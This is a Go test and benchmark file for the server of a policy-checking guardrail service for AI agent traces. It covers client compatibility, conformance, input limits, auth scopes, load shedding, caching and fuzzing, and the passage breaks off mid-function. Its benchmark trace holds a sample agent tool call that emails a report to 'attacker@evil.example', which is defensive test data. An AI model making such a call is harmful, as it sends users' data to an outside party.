package server

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"runtime/debug"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/tools/txtar"

	"github.com/vigilhq/vigil/client"
	"github.com/vigilhq/vigil/policy"
	"github.com/vigilhq/vigil/policy/builtin"
	"github.com/vigilhq/vigil/store"
	"github.com/vigilhq/vigil/trace"
)

var updateCheck = flag.Bool("update-check", false, "rewrite the status and response.json sections of testdata/check/*.txtar")

// checkFixture is one testdata/check/*.txtar file: a request shaped as an
// Invariant client sends it (the comment names the client code, then the
// request line and headers), and the golden status and response.
type checkFixture struct {
	path    string
	arch    *txtar.Archive
	method  string
	target  string
	headers http.Header
	body    []byte
}

func loadCheckFixtures(t testing.TB) []*checkFixture {
	t.Helper()
	files, err := filepath.Glob("testdata/check/*.txtar")
	if err != nil || len(files) == 0 {
		t.Fatalf("no fixtures in testdata/check: %v", err)
	}
	var out []*checkFixture
	for _, f := range files {
		a, err := txtar.ParseFile(f)
		if err != nil {
			t.Fatal(err)
		}
		fx := &checkFixture{path: f, arch: a, headers: http.Header{}}
		inHeaders := false
		for _, line := range strings.Split(string(a.Comment), "\n") {
			switch {
			case strings.HasPrefix(line, "POST "):
				fx.method, fx.target, inHeaders = "POST", strings.TrimPrefix(line, "POST "), true
			case inHeaders && strings.Contains(line, ": "):
				k, v, _ := strings.Cut(line, ": ")
				fx.headers.Set(k, v)
			}
		}
		body, ok := fx.section("request.json")
		if !ok || fx.target == "" {
			t.Fatalf("%s: want a POST line in the comment and a request.json section", f)
		}
		fx.body = body
		out = append(out, fx)
	}
	return out
}

func (fx *checkFixture) section(name string) ([]byte, bool) {
	for _, f := range fx.arch.Files {
		if f.Name == name {
			return f.Data, true
		}
	}
	return nil, false
}

func (fx *checkFixture) setSection(name string, data []byte) {
	for i := range fx.arch.Files {
		if fx.arch.Files[i].Name == name {
			fx.arch.Files[i].Data = data
			return
		}
	}
	fx.arch.Files = append(fx.arch.Files, txtar.File{Name: name, Data: data})
}

// send posts the fixture's request with key and returns status, headers
// and body.
func (fx *checkFixture) send(t testing.TB, ts *testServer, key string) (int, []byte) {
	t.Helper()
	req, err := http.NewRequest(fx.method, ts.URL+fx.target, bytes.NewReader(fx.body))
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range fx.headers {
		req.Header[k] = v
	}
	req.Header.Set("Content-Type", "application/json") // RemotePolicy.make_headers
	if key != "" {
		req.Header.Set("Authorization", "Bearer "+key)
	}
	resp, err := ts.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var b bytes.Buffer
	if _, err := b.ReadFrom(resp.Body); err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, b.Bytes()
}

// indentJSON renders b indented, for goldens and diffs.
func indentJSON(t testing.TB, b []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := json.Indent(&out, b, "", "  "); err != nil {
		t.Fatalf("not JSON: %v: %s", err, b)
	}
	out.WriteByte('\n')
	return out.Bytes()
}

// TestCheckInvariantClients sends each request of testdata/check exactly as
// Invariant's Python RemotePolicy or gateway does and compares the answer
// with its golden; it also checks, per endpoint, what those clients rely on.
func TestCheckInvariantClients(t *testing.T) {
	ts := newTestServer(t, openSQLite(t))
	for _, fx := range loadCheckFixtures(t) {
		t.Run(strings.TrimSuffix(filepath.Base(fx.path), ".txtar"), func(t *testing.T) {
			status, body := fx.send(t, ts, adminKey)
			got := indentJSON(t, body)
			if *updateCheck {
				fx.setSection("status", []byte(strconv.Itoa(status)+"\n"))
				fx.setSection("response.json", got)
				if err := os.WriteFile(fx.path, txtar.Format(fx.arch), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			wantStatus, _ := fx.section("status")
			wantBody, _ := fx.section("response.json")
			if strconv.Itoa(status) != strings.TrimSpace(string(wantStatus)) {
				t.Errorf("status %d, want %s", status, bytes.TrimSpace(wantStatus))
			}
			if !bytes.Equal(got, wantBody) {
				t.Errorf("response differs from the golden (go test -run TestCheckInvariantClients -update-check)\ngot:\n%s\nwant:\n%s", got, wantBody)
			}
			assertClientContract(t, fx.target, status, body)
		})
	}
}

// assertClientContract checks the parts of a response the Python clients
// read (remote_policy.py, the gateway's guardrails.py).
func assertClientContract(t *testing.T, target string, status int, body []byte) {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(body, &m); err != nil {
		t.Fatalf("response is not a JSON object: %s", body)
	}
	if status != http.StatusOK {
		d, ok := m["detail"].(string)
		if !ok {
			t.Fatalf("error without a string detail: %s", body)
		}
		prefixes := []string{prefixMissingParameter, prefixExcessive, prefixInputValidation, prefixLoad}
		if !slicesContainsPrefix(prefixes, d) && status == http.StatusBadRequest && target != "/api/v1/policy/check/batch" {
			t.Errorf("400 detail %q has none of the client's prefixes", d)
		}
		if strings.HasPrefix(d, prefixLoad) {
			errs, _ := m["errors"].([]any)
			if len(errs) == 0 {
				t.Errorf("load error without errors[]: %s", body)
			}
			for _, e := range errs {
				e := e.(map[string]any)
				if e["line"] == nil || e["column"] == nil || e["message"] == nil {
					t.Errorf("load error item without line, column and message: %v", e)
				}
			}
		}
		return
	}
	switch target {
	case "/api/v1/policy/load":
		if _, ok := m["errors"]; ok || m["success"] != true {
			t.Errorf("load answer %s: RemotePolicy wants success and no errors key", body)
		}
	case "/api/v1/policy/check":
		errs, ok := m["errors"].([]any)
		if !ok {
			t.Fatalf("check answer without an errors list: %s", body)
		}
		for _, e := range errs {
			e := e.(map[string]any)
			for _, k := range []string{"key", "args", "kwargs", "ranges"} {
				if _, ok := e[k]; !ok {
					t.Errorf("error %v has no %q", e, k)
				}
			}
			// ErrorInformation.from_dict reads each range with
			// Range.from_address.
			for _, r := range e["ranges"].([]any) {
				if s, _ := r.(string); !addressRx.MatchString(s) {
					t.Errorf("range %v is not an address messages.I...[:S-E]", r)
				}
			}
		}
	case "/api/v1/policy/check/batch":
		res, ok := m["result"].([]any)
		if !ok {
			t.Fatalf("batch answer without result: %s", body)
		}
		for _, r := range res {
			r := r.(map[string]any)
			if _, ok := r["errors"].([]any); !ok || r["policy"] == nil || r["success"] == nil || r["error_message"] == nil {
				t.Errorf("batch entry %v lacks policy, success, error_message or errors", r)
			}
		}
	}
}

// addressRx is the address grammar of the ranges a check reports.
var addressRx = regexp.MustCompile(`^messages(\.[^.:]+)+(:\d+-\d+)?$`)

func slicesContainsPrefix(prefixes []string, s string) bool {
	for _, p := range prefixes {
		if strings.HasPrefix(s, p) {
			return true
		}
	}
	return false
}

// conformanceCase is one line of policy/testdata/policy-cases.jsonl or
// regressions.jsonl (the fields the check API needs).
type conformanceCase struct {
	Name       string          `json:"name"`
	Policy     string          `json:"policy"`
	Trace      json.RawMessage `json:"trace"`
	Parameters json.RawMessage `json:"parameters"`
	Mode       string          `json:"mode"`
	Past       int             `json:"past"`
	Requires   []string        `json:"requires"`
	Expected   struct {
		Violations    int    `json:"violations"`
		LoadError     bool   `json:"load_error"`
		AnalysisError string `json:"analysis_error"`
	} `json:"expected"`
}

func loadConformance(t testing.TB) []conformanceCase {
	t.Helper()
	var out []conformanceCase
	for _, name := range []string{"../policy/testdata/policy-cases.jsonl", "../policy/testdata/regressions.jsonl"} {
		f, err := os.Open(name)
		if err != nil {
			t.Fatal(err)
		}
		sc := bufio.NewScanner(f)
		sc.Buffer(make([]byte, 1<<20), 1<<24)
		for line := 1; sc.Scan(); line++ {
			var c conformanceCase
			if err := json.Unmarshal(sc.Bytes(), &c); err != nil {
				t.Fatalf("%s:%d: %v", name, line, err)
			}
			out = append(out, c)
		}
		f.Close()
		if err := sc.Err(); err != nil {
			t.Fatal(err)
		}
	}
	return out
}

// inProcess is what the engine answers for a case in this process, in the
// check API's terms: the status and the JSON result or detail prefix.
func inProcess(c conformanceCase) (status int, result []byte, prefix string) {
	p, err := policy.Load(c.Policy, policy.Options{Name: "policy"})
	if err != nil {
		return http.StatusBadRequest, nil, prefixLoad
	}
	var params map[string]any
	if len(c.Parameters) > 0 {
		dec := json.NewDecoder(bytes.NewReader(c.Parameters))
		dec.UseNumber()
		if err := dec.Decode(&params); err != nil {
			panic(err)
		}
	}
	t, err := trace.Decode(c.Trace)
	if err != nil {
		return http.StatusBadRequest, nil, prefixInputValidation
	}
	var res *policy.Result
	if c.Mode == "pending" {
		res, err = p.AnalyzePending(context.Background(), &trace.Trace{Events: t.Events[:c.Past]}, &trace.Trace{Events: t.Events[c.Past:]}, params)
	} else {
		res, err = p.Analyze(context.Background(), t, params)
	}
	switch {
	case errors.Is(err, policy.ErrMissingParameter):
		return http.StatusBadRequest, nil, prefixMissingParameter
	case err != nil:
		return http.StatusBadRequest, nil, prefixInputValidation
	}
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(normalizeResult(res)); err != nil {
		panic(err)
	}
	return http.StatusOK, bytes.TrimSpace(b.Bytes()), ""
}

// TestCheckConformance sends every shared conformance case through a real
// server on loopback and checks that the answer agrees with the engine run
// in process, and with the case's expectations.
func TestCheckConformance(t *testing.T) {
	ts := newTestServer(t, openSQLite(t))
	for _, c := range loadConformance(t) {
		t.Run(c.Name, func(t *testing.T) {
			for _, r := range c.Requires {
				if b, ok := builtin.Lookup(r); !ok || b.Usable() != nil {
					t.Skipf("requires %s, which this build does not provide", r)
				}
			}
			req := map[string]any{"messages": c.Trace, "policy": c.Policy}
			if len(c.Parameters) > 0 {
				req["parameters"] = c.Parameters
			} else {
				req["parameters"] = map[string]any{}
			}
			if c.Mode == "pending" {
				req["from_index"] = c.Past
			}
			status, body := ts.do(t, "POST", "/api/v1/policy/check", adminKey, req)
			wantStatus, wantResult, wantPrefix := inProcess(c)
			if status != wantStatus {
				t.Fatalf("status %d, in process %d: %s", status, wantStatus, body)
			}
			if status != http.StatusOK {
				var e struct{ Detail string }
				_ = json.Unmarshal(body, &e)
				if !strings.HasPrefix(e.Detail, wantPrefix) {
					t.Errorf("detail %q, want prefix %q", e.Detail, wantPrefix)
				}
				if c.Expected.LoadError != (wantPrefix == prefixLoad) {
					t.Errorf("load error %v, case expects %v", wantPrefix == prefixLoad, c.Expected.LoadError)
				}
				if c.Expected.AnalysisError == "missing_parameter" && wantPrefix != prefixMissingParameter {
					t.Errorf("detail %q, case expects missing_parameter", e.Detail)
				}
				return
			}
			if got := bytes.TrimSpace(body); !bytes.Equal(got, wantResult) {
				t.Errorf("over HTTP:\n%s\nin process:\n%s", got, wantResult)
			}
			var got struct{ Errors []json.RawMessage }
			if err := json.Unmarshal(body, &got); err != nil {
				t.Fatal(err)
			}
			if len(got.Errors) != c.Expected.Violations {
				t.Errorf("%d violations, case expects %d", len(got.Errors), c.Expected.Violations)
			}
		})
	}
}

// hostileTimeoutRule runs for seconds without reaching a step or violation
// budget early: 3^20 bindings of a body that is never true.
const hostileTimeoutRule = "raise \"never\" if:\n" +
	"    (m0: Message)\n    (m1: Message)\n    (m2: Message)\n    (m3: Message)\n    (m4: Message)\n" +
	"    (m5: Message)\n    (m6: Message)\n    (m7: Message)\n    (m8: Message)\n    (m9: Message)\n" +
	"    m0.content + m1.content + m2.content + m3.content + m4.content + m5.content + m6.content + m7.content + m8.content + m9.content == \"nothing\"\n"

func threeMessages() []map[string]any {
	return []map[string]any{{"role": "user", "content": "a"}, {"role": "user", "content": "b"}, {"role": "user", "content": "c"}}
}

// TestCheckBadInput covers the request limits and failure shapes.
func TestCheckBadInput(t *testing.T) {
	ts := newTestServer(t, openSQLite(t), func(c *Config) { c.CheckTimeout = 100 * time.Millisecond })
	bigMsgs := make([]map[string]any, MaxCheckMessages+1)
	for i := range bigMsgs {
		bigMsgs[i] = map[string]any{"role": "user", "content": ""}
	}
	rule := "raise \"x\" if:\n    (m: Message)\n"
	slowTrace := make([]map[string]any, 30)
	for i := range slowTrace {
		slowTrace[i] = map[string]any{"role": "user", "content": fmt.Sprint(i)}
	}
	cases := []struct {
		name   string
		path   string
		body   any
		status int
		code   string
		detail string // substring
	}{
		{"invalid_json", "/api/v1/policy/check", `{"messages": [`, 400, CodeInvalidJSON, "invalid JSON"},
		{"empty_body", "/api/v1/policy/check", ``, 400, CodeInvalidJSON, "empty"},
		// issue 17 item 6: the check API names the JSON path of invalid UTF-8 as the ingest paths do
		{"invalid_utf8", "/api/v1/policy/check", "{\"policy\": \"x\", \"messages\": [{\"role\": \"user\", \"content\": \"a\xffb\"}]}", 400, CodeInvalidJSON, "in the string at $.messages[0].content"},
		{"messages_missing", "/api/v1/policy/check", map[string]any{"policy": rule}, 400, CodeInvalidRequest, prefixInputValidation + "messages is required"},
		{"policy_missing", "/api/v1/policy/check", map[string]any{"messages": threeMessages()}, 400, CodeInvalidRequest, "policy is required"},
		{"policy_not_string", "/api/v1/policy/check", map[string]any{"messages": threeMessages(), "policy": 3}, 400, CodeInvalidRequest, "policy must be a string"},
		{"parameters_not_object", "/api/v1/policy/check", map[string]any{"messages": threeMessages(), "policy": rule, "parameters": []int{1}}, 400, CodeInvalidRequest, prefixInputValidation + "parameters must be a JSON object"},
		{"too_many_messages", "/api/v1/policy/check", map[string]any{"messages": bigMsgs, "policy": rule}, 400, CodeInvalidRequest, "more than the 10000"},
		{"from_index_beyond", "/api/v1/policy/check", map[string]any{"messages": threeMessages(), "policy": rule, "from_index": 4}, 400, CodeInvalidRequest, "from_index is 4, want 0 to 3"},
		{"from_index_negative", "/api/v1/policy/check", map[string]any{"messages": threeMessages(), "policy": rule, "from_index": -1}, 400, CodeInvalidRequest, "from_index is -1"},
		{"invalid_rule_position", "/api/v1/policy/check", map[string]any{"messages": threeMessages(), "policy": "raise \"x\" if:\n    (m: Mesage)\n"}, 400, "policy_invalid", prefixLoad + "policy:2:9: unknown type Mesage"},
		{"timeout", "/api/v1/policy/check", map[string]any{"messages": slowTrace, "policy": hostileTimeoutRule}, 400, CodeInvalidRequest, prefixExcessive + "timeout"},
		{"batch_policies_missing", "/api/v1/policy/check/batch", map[string]any{"messages": threeMessages()}, 400, CodeInvalidRequest, "policies is required"},
		{"batch_policies_not_strings", "/api/v1/policy/check/batch", map[string]any{"messages": threeMessages(), "policies": []int{1}}, 400, CodeInvalidRequest, "must be a string"},
		{"load_missing_policy", "/api/v1/policy/load", map[string]any{}, 400, CodeInvalidRequest, "policy is required"},
		{"load_invalid", "/api/v1/policy/load", map[string]any{"policy": "raise"}, 400, "policy_invalid", prefixLoad},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			status, body := ts.do(t, "POST", c.path, adminKey, c.body)
			var e struct{ Detail, Code string }
			_ = json.Unmarshal(body, &e)
			if status != c.status || e.Code != c.code || !strings.Contains(e.Detail, c.detail) {
				t.Errorf("got %d %s %q, want %d %s containing %q", status, e.Code, e.Detail, c.status, c.code, c.detail)
			}
		})
	}
	t.Run("body_over_16MiB", func(t *testing.T) {
		// Of unknown length (chunked): read up to the limit, then 413.
		body := `{"policy": "` + strings.Repeat("#", MaxCheckBytes) + `"}`
		status, out := ts.do(t, "POST", "/api/v1/policy/check", adminKey, io.MultiReader(strings.NewReader(body)))
		if status != http.StatusRequestEntityTooLarge || !strings.Contains(string(out), "too_large") {
			t.Errorf("chunked: got %d %s, want 413 too_large", status, out)
		}
		// Declared too large: refused unread (admission.go).
		c := dialRaw(t, ts.URL)
		head := fmt.Sprintf("POST /api/v1/policy/check HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Length: %d\r\n\r\n", adminKey, len(body))
		if _, err := io.WriteString(c, head); err != nil {
			t.Fatal(err)
		}
		if resp, b := c.response(t, 5*time.Second); resp.StatusCode != http.StatusRequestEntityTooLarge || !strings.Contains(string(b), "too_large") {
			t.Errorf("declared: got %d %s, want 413 too_large", resp.StatusCode, b)
		}
	})
	t.Run("batch_timeout_is_an_entry", func(t *testing.T) {
		status, body := ts.do(t, "POST", "/api/v1/policy/check/batch", adminKey,
			map[string]any{"messages": slowTrace, "policies": []string{hostileTimeoutRule, rule}})
		var out struct {
			Result []struct {
				Success      bool
				ErrorMessage string `json:"error_message"`
				Errors       []any
			}
		}
		if err := json.Unmarshal(body, &out); err != nil || status != 200 || len(out.Result) != 2 {
			t.Fatalf("got %d %s", status, body)
		}
		if r := out.Result[0]; r.Success || !strings.HasPrefix(r.ErrorMessage, prefixExcessive+"timeout") {
			t.Errorf("hostile entry %+v, want success false with %q", r, prefixExcessive+"timeout")
		}
	})
	t.Run("server_still_serves", func(t *testing.T) {
		status, body := ts.do(t, "POST", "/api/v1/policy/check", adminKey, map[string]any{"messages": threeMessages(), "policy": rule})
		var res struct{ Errors []json.RawMessage }
		if status != 200 || json.Unmarshal(body, &res) != nil || len(res.Errors) != 3 {
			t.Errorf("got %d %s, want 3 violations", status, body)
		}
	})
}

// TestCheckAuth: an ingest key may check (a read key may not); anonymous
// callers only when check_requires_key=false; a bad key is always 401.
func TestCheckAuth(t *testing.T) {
	st := openSQLite(t)
	ts := newTestServer(t, st)
	ingest := createScopedKey(t, ts, store.ScopeIngest)
	read := createScopedKey(t, ts, store.ScopeRead)
	anon := newTestServer(t, openSQLite(t), func(c *Config) { c.CheckAnonymous = true })
	body := map[string]any{"messages": threeMessages(), "policy": "raise \"x\" if:\n    (m: Message)\n"}
	for _, c := range []struct {
		name   string
		ts     *testServer
		path   string
		key    string
		status int
	}{
		{"ingest_key", ts, "/api/v1/policy/check", ingest, 200},
		{"ingest_key_load", ts, "/api/v1/policy/load", ingest, 200},
		{"ingest_key_batch", ts, "/api/v1/policy/check/batch", ingest, 200},
		{"read_key", ts, "/api/v1/policy/check", read, 403},
		{"no_key", ts, "/api/v1/policy/check", "", 401},
		{"no_key_batch", ts, "/api/v1/policy/check/batch", "", 401},
		{"no_key_anonymous_allowed", anon, "/api/v1/policy/check", "", 200},
		{"bad_key_anonymous_allowed", anon, "/api/v1/policy/check", "vgl-not-a-key-0123456789", 401},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := map[string]any{"messages": body["messages"], "policy": body["policy"], "policies": []any{body["policy"]}}
			status, out := c.ts.do(t, "POST", c.path, c.key, b)
			if status != c.status {
				t.Errorf("got %d %s, want %d", status, out, c.status)
			}
		})
	}
}

// createScopedKey creates a key of scope for the admin user.
func createScopedKey(t *testing.T, ts *testServer, scope string) string {
	t.Helper()
	status, body := ts.do(t, "POST", "/api/v1/keys/create", adminKey, map[string]any{"name": "check-" + scope, "scope": scope})
	var k struct{ Key string }
	if status != 200 || json.Unmarshal(body, &k) != nil || k.Key == "" {
		t.Fatalf("create %s key: %d %s", scope, status, body)
	}
	return k.Key
}

// TestCheckPoolBounded floods a server whose pool has one slot with slow
// requests: every answer is a result, a timeout or a 429 with Retry-After,
// some are refused, and the server answers normally afterwards.
func TestCheckPoolBounded(t *testing.T) {
	ts := newTestServer(t, openSQLite(t), func(c *Config) {
		c.CheckConcurrency = 1
		c.CheckTimeout = 30 * time.Millisecond
	})
	slow := make([]map[string]any, 30)
	for i := range slow {
		slow[i] = map[string]any{"role": "user", "content": fmt.Sprint(i)}
	}
	body, _ := json.Marshal(map[string]any{"messages": slow, "policy": hostileTimeoutRule})
	const n = 60
	var wg sync.WaitGroup
	var mu sync.Mutex
	counts := map[int]int{}
	for range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			req, _ := http.NewRequest("POST", ts.URL+"/api/v1/policy/check", bytes.NewReader(body))
			req.Header.Set("Authorization", "Bearer "+adminKey)
			resp, err := ts.Client().Do(req)
			if err != nil {
				t.Error(err)
				return
			}
			defer resp.Body.Close()
			if resp.StatusCode == http.StatusTooManyRequests && resp.Header.Get("Retry-After") == "" {
				t.Error("429 without Retry-After")
			}
			mu.Lock()
			counts[resp.StatusCode]++
			mu.Unlock()
		}()
	}
	wg.Wait()
	for status := range counts {
		if status != http.StatusBadRequest && status != http.StatusTooManyRequests {
			t.Errorf("status %d in a flood (want 400 timeout or 429): %v", status, counts)
		}
	}
	if counts[http.StatusTooManyRequests] == 0 || counts[http.StatusBadRequest] == 0 {
		t.Errorf("want both timeouts and refusals from %d requests on one slot, got %v", n, counts)
	}
	status, out := ts.do(t, "POST", "/api/v1/policy/check", adminKey, map[string]any{"messages": threeMessages(), "policy": "raise \"x\" if:\n    (m: Message)\n"})
	if status != 200 {
		t.Errorf("after the flood: %d %s", status, out)
	}
}

// TestRuleCache: least recently used rules are evicted beyond the size,
// a hit moves a rule to the front, and the server compiles a text once.
// TestCheckRuleCache: the check API compiles a rule text once while it
// stays in its cache (guardrails.cache_size), and counts hits and misses.
func TestCheckRuleCache(t *testing.T) {
	a, b := "raise \"a\" if:\n    (m: Message)\n", "raise \"b\" if:\n    (m: Message)\n"
	ts := newTestServer(t, openSQLite(t), func(c *Config) { c.RuleCacheSize = 1 })
	for _, src := range []string{a, a, b, a} {
		if status, out := ts.do(t, "POST", "/api/v1/policy/load", adminKey, map[string]any{"policy": src}); status != 200 {
			t.Fatalf("load: %d %s", status, out)
		}
	}
	var m bytes.Buffer
	if err := ts.srv.Metrics().Write(&m); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`vigil_check_rule_cache_total{result="hit"} 1`, `vigil_check_rule_cache_total{result="miss"} 3`} {
		if !strings.Contains(m.String(), want) {
			t.Errorf("metrics lack %s:\n%s", want, m.String())
		}
	}
}

// FuzzCheckRequest: any body gets a JSON answer, 200, 400 or 413, never a
// 5xx; seeds are the fixtures' bodies.
func FuzzCheckRequest(f *testing.F) {
	for _, fx := range loadCheckFixtures(f) {
		f.Add(fx.body)
	}
	f.Add([]byte(`{"messages": [], "policy": "", "from_index": 0}`))
	f.Add([]byte(`{"messages": {"messages": []}, "policy": "raise \"x\" if:\n    (m: Message)\n", "parameters": null}`))
	ts := newTestServer(f, openSQLite(f), func(c *Config) { c.CheckTimeout = 200 * time.Millisecond })
	f.Fuzz(func(t *testing.T, body []byte) {
		for _, path := range []string{"/api/v1/policy/check", "/api/v1/policy/check/batch"} {
			status, out := ts.do(t, "POST", path, adminKey, body)
			if status >= 500 || status == http.StatusOK && !json.Valid(out) {
				t.Fatalf("%s: %d %s", path, status, out)
			}
			var v any
			if err := json.Unmarshal(out, &v); err != nil {
				t.Fatalf("%s: not JSON: %s", path, out)
			}
		}
	})
}

// benchCheckTrace returns a 100-event agent trace as JSON: user turns,
// tool calls (inbox, files, mail), their outputs and answers, with one
// mail to an outside address near the end.
func benchCheckTrace(tb testing.TB) json.RawMessage {
	var evs []any
	for i := 0; len(evs) < 100; i++ {
		tool, args := "read_file", fmt.Sprintf(`{"path": "/home/u/doc%d.txt"}`, i)
		switch {
		case i%5 == 0:
			tool, args = "get_inbox", `{"n": 10}`
		case i == 23:
			tool, args = "send_email", `{"to": "attacker@evil.example", "body": "the report"}`
		case i%5 == 3:
			tool, args = "send_email", fmt.Sprintf(`{"to": "Peter", "body": "report %d"}`, i)
		}
		id := fmt.Sprint("call_", i)
		evs = append(evs,
			map[string]any{"role": "user", "content": fmt.Sprintf("Please handle request %d and keep it short.", i)},
			map[string]any{"role": "assistant", "content": nil, "tool_calls": []any{map[string]any{"id": id, "type": "function", "function": map[string]any{"name": tool, "arguments": args}}}},
			map[string]any{"role": "tool", "tool_call_id": id, "content": fmt.Sprintf("result %d: a few lines of ordinary text and the number 12345.", i)},
			map[string]any{"role": "assistant", "content": "Done. Anything else?"})
	}
	b, err := json.Marshal(evs[:100])
	if err != nil {
		tb.Fatal(err)
	}
	return b
}

// benchRules are the policies of the check benchmarks: one flow rule over
// tool calls (the Python client's usual single guardrail), and the
// realistic 5-rule policy of the engine's own benchmarks.
func benchRules(tb testing.TB) map[string]string {
	a, err := txtar.ParseFile("../policy/testdata/check/bench.txtar")
	if err != nil {
		tb.Fatal(err)
	}
	rules := map[string]string{"rule": "raise PolicyViolation(\"must not send emails to anyone but Peter after reading the inbox\", call=call, call2=call2) if:\n" +
		"    (call: ToolCall) -> (call2: ToolCall)\n    call is tool:get_inbox\n    call2 is tool:send_email({to: \"^(?!Peter$).*$\"})\n"}
	for _, f := range a.Files {
		if f.Name == "policy" {
			rules["5rules"] = string(f.Data)
		}
	}
	if rules["5rules"] == "" {
		tb.Fatal("bench.txtar has no policy section")
	}
	return rules
}

// BenchmarkCheckAPI measures POST /api/v1/policy/check of a 100-event
// trace with a cached rule, from a sequential keep-alive client over real
// loopback HTTP: it reports the round trip's p50 and p99 and checks/s.
//
// The garbage collector runs with GOGC=400, as in vigil serve.
func BenchmarkCheckAPI(b *testing.B) {
	defer debug.SetGCPercent(debug.SetGCPercent(400))
	ts := newTestServer(b, openSQLite(b))
	msgs := benchCheckTrace(b)
	for name, src := range benchRules(b) {
		b.Run(name, func(b *testing.B) {
			body, err := json.Marshal(map[string]any{"messages": msgs, "policy": src, "parameters": map[string]any{}})
			if err != nil {
				b.Fatal(err)
			}
			// A keep-alive client that sends each request in one write
			// (the default 4 KiB buffer splits the 13 KB body into
			// several) and reuses its response buffer.
			tr := &http.Transport{WriteBufferSize: 64 << 10, MaxIdleConnsPerHost: 1}
			defer tr.CloseIdleConnections()
			hc := &http.Client{Transport: tr}
			var out bytes.Buffer
			send := func() {
				req, _ := http.NewRequest("POST", ts.URL+"/api/v1/policy/check", bytes.NewReader(body))
				req.Header.Set("Authorization", "Bearer "+adminKey)
				req.Header.Set("Content-Type", "application/json")
				resp, err := hc.Do(req)
				if err != nil {
					b.Fatal(err)
				}
				out.Reset()
				_, _ = out.ReadFrom(resp.Body)
				resp.Body.Close()
				if resp.StatusCode != 200 || !bytes.Contains(out.Bytes(), []byte(`"errors":[{`)) {
					b.Fatalf("%d %s", resp.StatusCode, out.Bytes())
				}
			}
			send() // compiles and caches the rule
			lat := make([]time.Duration, 0, b.N)
			b.ReportAllocs()
			b.ResetTimer()
			start, cpu := time.Now(), processCPU()
			for b.Loop() {
				t0 := time.Now()
				send()
				lat = append(lat, time.Since(t0))
			}
			reportLatency(b, lat, time.Since(start), processCPU()-cpu)
		})
	}
}

// BenchmarkCheckAPIParallel is BenchmarkCheckAPI with concurrent
// keep-alive clients (4 per GOMAXPROCS): the server's throughput on the
// machine, where BenchmarkCheckAPI shows one client's latency. Client and
// server share the machine's cores, so the rate is a lower bound of what
// the server does for remote clients.
func BenchmarkCheckAPIParallel(b *testing.B) {
	defer debug.SetGCPercent(debug.SetGCPercent(400))
	ts := newTestServer(b, openSQLite(b))
	msgs := benchCheckTrace(b)
	body, err := json.Marshal(map[string]any{"messages": msgs, "policy": benchRules(b)["rule"], "parameters": map[string]any{}})
	if err != nil {
		b.Fatal(err)
	}
	tr := &http.Transport{WriteBufferSize: 64 << 10, MaxIdleConnsPerHost: 64}
	defer tr.CloseIdleConnections()
	hc := &http.Client{Transport: tr}
	send := func(out *bytes.Buffer) error {
		req, _ := http.NewRequest("POST", ts.URL+"/api/v1/policy/check", bytes.NewReader(body))
		req.Header.Set("Authorization", "Bearer "+adminKey)
		req.Header.Set("Content-Type", "application/json")
		resp, err := hc.Do(req)
		if err != nil {
			return err
		}
		out.Reset()
		_, _ = out.ReadFrom(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 200 || !bytes.Contains(out.Bytes(), []byte(`"errors":[{`)) {
			return fmt.Errorf("%d %s", resp.StatusCode, out.Bytes())
		}
		return nil
	}
	if err := send(new(bytes.Buffer)); err != nil { // compiles and caches the rule
		b.Fatal(err)
	}
	b.SetParallelism(4)
	b.ReportAllocs()
	b.ResetTimer()
	start, cpu := time.Now(), processCPU()
	var n atomic.Int64
	b.RunParallel(func(pb *testing.PB) {
		var out bytes.Buffer
		for pb.Next() {
			if err := send(&out); err != nil {
				b.Error(err)
				return
			}
			n.Add(1)
		}
	})
	elapsed := time.Since(start)
	b.ReportMetric(float64((processCPU()-cpu).Nanoseconds())/float64(n.Load())/1e3, "cpu-µs/op")
	b.ReportMetric(float64(n.Load())/elapsed.Seconds(), "checks/s")
}

// reportLatency reports p50 and p99 in µs, the rate in checks/s and the
// process CPU time per check (client and server: on a shared machine it
// says more than the wall time does).
func reportLatency(b *testing.B, lat []time.Duration, elapsed, cpu time.Duration) {
	if len(lat) == 0 {
		return
	}
	b.ReportMetric(float64(cpu.Nanoseconds())/float64(len(lat))/1e3, "cpu-µs/op")
	slices.Sort(lat)
	b.ReportMetric(float64(lat[len(lat)/2].Nanoseconds())/1e3, "p50-µs")
	b.ReportMetric(float64(lat[len(lat)*99/100].Nanoseconds())/1e3, "p99-µs")
	b.ReportMetric(float64(len(lat))/elapsed.Seconds(), "checks/s")
}

// BenchmarkCheckInProcess is the same work without HTTP: decode the
// 100-event trace and analyse it with the compiled rule.
func BenchmarkCheckInProcess(b *testing.B) {
	defer debug.SetGCPercent(debug.SetGCPercent(400))
	msgs := benchCheckTrace(b)
	for name, src := range benchRules(b) {
		b.Run(name, func(b *testing.B) {
			p, err := policy.Load(src, policy.Options{Name: "policy"})
			if err != nil {
				b.Fatal(err)
			}
			lat := make([]time.Duration, 0, b.N)
			b.ReportAllocs()
			start, cpu := time.Now(), processCPU()
			for b.Loop() {
				t0 := time.Now()
				t, err := trace.Decode(msgs)
				if err != nil {
					b.Fatal(err)
				}
				res, err := p.Analyze(context.Background(), t, map[string]any{})
				if err != nil || len(res.Errors) == 0 {
					b.Fatal(err, res)
				}
				lat = append(lat, time.Since(t0))
			}
			reportLatency(b, lat, time.Since(start), processCPU()-cpu)
		})
	}
}

// TestCheckClient drives the check API through package client's typed
// calls against a real server.
func TestCheckClient(t *testing.T) {
	ts := newTestServer(t, openSQLite(t))
	ctx := context.Background()
	msgs := threeMessages()
